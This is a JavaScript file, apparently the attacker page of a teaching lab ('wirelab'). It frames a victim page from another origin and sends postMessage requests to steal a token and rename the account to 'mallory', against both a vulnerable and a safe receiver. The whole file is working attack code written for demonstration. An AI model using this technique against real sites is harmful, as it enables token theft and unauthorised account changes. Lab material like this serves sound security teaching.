// attacker.js — origin C. It frames the victim (the parent page of origin
// A), which gives it a WindowProxy for it, and calls both receivers with the
// same requests. It uses wirelab's own helper: the message format is no
// secret, and a check of the message's shape stops nobody.
import { config, endpoint, TimeoutError } from "/pm.js";

const cfg = config();
const $ = (id) => document.getElementById(id);
const victim = $("victim");

const attack = { done: false, runs: 0, vulnerable: {}, safe: {} };
window.wirelab = { cfg, attack, run };

// The attacker names the victim's origin as targetOrigin (so the message
// reaches only that page) and accepts answers from it: it wants them.
const common = { target: () => victim.contentWindow, targetOrigin: cfg.victim, allow: cfg.trusted, timeout: cfg.timeoutMs };
const eps = {
  vulnerable: endpoint({ ...common, channel: "vulnerable", name: "[attacker → vulnerable]" }),
  safe: endpoint({ ...common, channel: "safe", name: "[attacker → safe]" }),
};

async function attempt(which) {
  const out = {};
  const ep = eps[which];
  const [token, named] = await Promise.allSettled([ep.request("getToken"), ep.request("setName", { name: "mallory" })]);
  if (token.status === "fulfilled") out.token = token.value.token;
  else out.tokenError = describe(token.reason);
  if (named.status === "fulfilled") out.name = named.value.name;
  else out.nameError = describe(named.reason);
  $(`${which}-token`).textContent = out.token ? `${out.token} — stolen` : `none: ${out.tokenError}`;
  $(`${which}-setname`).textContent = out.name ? `renamed the account to "${out.name}"` : `refused: ${out.nameError}`;
  return out;
}

function describe(err) {
  return err instanceof TimeoutError ? `ignored (${err.message})` : String(err);
}

async function run() {
  attack.done = false;
  const [vulnerable, safe] = await Promise.all([attempt("vulnerable"), attempt("safe")]);
  Object.assign(attack, { vulnerable, safe, done: true, runs: attack.runs + 1 });
  return attack;
}

$("again").addEventListener("click", () => run());
// Attack once the victim has loaded: its listeners are in place by then.
victim.addEventListener("load", () => run(), { once: true });
victim.src = victim.dataset.src;
